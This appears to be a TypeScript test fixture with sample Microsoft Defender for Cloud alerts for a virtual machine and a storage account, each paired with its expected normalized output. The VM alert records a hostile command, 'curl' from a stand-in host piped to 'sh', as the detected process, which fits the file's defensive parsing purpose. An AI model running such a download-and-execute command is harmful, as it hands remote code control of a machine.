import type { FormatSample } from '../define-format.ts';

const GROUP = '/subscriptions/11111111-bbbb-4ccc-8ddd-000000000001/resourceGroups/shop';

export const samples: readonly [FormatSample, ...FormatSample[]] = [
  {
    title: 'An alert of a virtual machine, as the API has it',
    body: {
      id: `${GROUP}/providers/Microsoft.Security/locations/westeurope/alerts/2517_aa`,
      name: '2517_aa',
      type: 'Microsoft.Security/Locations/alerts',
      properties: {
        version: '2022-01-01',
        alertType: 'VM_SuspiciousActivity',
        systemAlertId: '2517_aa-0b1c-4d2e-9f3a-000000000002',
        productComponentName: 'Servers',
        alertDisplayName: 'Suspicious download then run activity',
        description: 'A file was downloaded, made executable and run.',
        severity: 'High',
        intent: 'Execution',
        startTimeUtc: '2026-11-22T12:00:00.0Z',
        endTimeUtc: '2026-11-22T12:00:05.0Z',
        timeGeneratedUtc: '2026-11-22T12:01:00.0Z',
        resourceIdentifiers: [
          {
            $id: '2',
            azureResourceId: `${GROUP}/providers/Microsoft.Compute/virtualMachines/shop-1`,
            type: 'AzureResource',
          },
        ],
        compromisedEntity: 'shop-1',
        remediationSteps: ['Look at the command line.'],
        vendorName: 'Microsoft',
        status: 'Active',
        extendedProperties: { 'suspicious process': '/tmp/x', resourceType: 'Virtual Machine' },
        alertUri: 'https://portal.azure.example/#blade/alert/2517_aa',
        entities: [
          {
            $id: '3',
            hostName: 'shop-1',
            azureID: `${GROUP}/providers/Microsoft.Compute/virtualMachines/shop-1`,
            type: 'host',
          },
          { $id: '4', name: 'www-data', host: { $ref: '3' }, type: 'account' },
          { $id: '5', commandLine: 'sh -c curl 198.51.100.40/x | sh', type: 'process' },
        ],
        techniques: ['T1105'],
      },
    },
    alerts: [
      {
        external_id: '2517_aa-0b1c-4d2e-9f3a-000000000002',
        title: 'Suspicious download then run activity on shop-1',
        severity: 'high',
        type: 'malware',
        occurred_at: '2026-11-22T12:00:00.000Z',
        state: 'open',
        fields: {
          host: { name: 'shop-1' },
          process: { command_line: 'sh -c curl 198.51.100.40/x | sh' },
          resource: {
            id: '/subscriptions/11111111-bbbb-4ccc-8ddd-000000000001/resourceGroups/shop/providers/Microsoft.Compute/virtualMachines/shop-1',
            name: 'shop-1',
            type: 'Microsoft.Compute/virtualMachines',
          },
          vendor: { state: 'Active', severity: 'High', severity_scale: 'Informational..High' },
          event: { category: 'Execution', url: 'https://portal.azure.example/#blade/alert/2517_aa' },
          observer: { vendor: 'Microsoft', product: 'Defender for Cloud', type: 'cloud' },
          threat: { tactic: { name: ['Execution'] }, technique: { id: ['T1105'] } },
          user: { name: 'www-data' },
          rule: { id: 'VM_SuspiciousActivity', name: 'Suspicious download then run activity' },
          cloud: { provider: 'azure', account: { id: '11111111-bbbb-4ccc-8ddd-000000000001' } },
        },
      },
    ],
  },
  {
    title: 'An alert of a storage account, as workflow automation hands it over',
    body: {
      VendorName: 'Microsoft',
      AlertType: 'Storage.Blob_AnonymousAccessAnomaly',
      ProductName: 'Microsoft Defender for Cloud',
      SystemAlertId: '2517_bb-0b1c-4d2e-9f3a-000000000003',
      AlertDisplayName: 'Unusual unauthenticated access to a storage container',
      Description: 'Somebody reads blobs without signing in.',
      Severity: 'Low',
      Intent: 'Collection',
      StartTimeUtc: '2026-11-22T12:00:00.0Z',
      TimeGenerated: '2026-11-22T12:03:00.0Z',
      AzureResourceId: `${GROUP}/providers/Microsoft.Storage/storageAccounts/shopblobs`,
      CompromisedEntity: 'shopblobs',
      AlertUri: 'https://portal.azure.example/#blade/alert/2517_bb',
      Entities: [{ $id: '1', Address: '198.51.100.41', Type: 'ip' }],
    },
    alerts: [
      {
        external_id: '2517_bb-0b1c-4d2e-9f3a-000000000003',
        title: 'Unusual unauthenticated access to a storage container from 198.51.100.41',
        severity: 'low',
        type: 'data_exfiltration',
        occurred_at: '2026-11-22T12:00:00.000Z',
        fields: {
          vendor: { severity: 'Low', severity_scale: 'Informational..High' },
          event: { category: 'Collection', url: 'https://portal.azure.example/#blade/alert/2517_bb' },
          observer: { vendor: 'Microsoft', product: 'Defender for Cloud', type: 'cloud' },
          source: { ip: '198.51.100.41' },
          resource: {
            id: '/subscriptions/11111111-bbbb-4ccc-8ddd-000000000001/resourceGroups/shop/providers/Microsoft.Storage/storageAccounts/shopblobs',
            name: 'shopblobs',
            type: 'Microsoft.Storage/storageAccounts',
          },
          rule: {
            id: 'Storage.Blob_AnonymousAccessAnomaly',
            name: 'Unusual unauthenticated access to a storage container',
          },
          threat: { tactic: { name: ['Collection'] } },
          cloud: { provider: 'azure', account: { id: '11111111-bbbb-4ccc-8ddd-000000000001' } },
        },
      },
    ],
  },
];
